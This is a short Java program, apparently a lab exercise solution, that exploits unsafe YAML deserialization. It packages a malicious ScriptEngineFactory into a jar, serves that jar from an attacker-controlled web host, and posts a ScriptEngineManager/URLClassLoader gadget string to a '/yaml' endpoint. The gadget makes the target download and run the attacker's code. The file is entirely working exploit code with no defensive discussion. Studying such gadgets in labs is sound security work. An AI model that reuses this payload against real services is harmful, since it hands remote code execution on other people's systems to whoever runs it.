import java.util.Map;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    byte[] jar =
        Attacker.jar(
            Map.of(
                "META-INF/services/javax.script.ScriptEngineFactory",
                "Engine".getBytes(),
                "Engine.class",
                Attacker.classBytes(Engine.class)));
    Attacker.serve(Map.of("/engine.jar", jar));
    Attacker.post(
        "/yaml",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\""
            + Attacker.WEB
            + "/engine.jar\"]]]]");
    Attacker.done();
  }
}
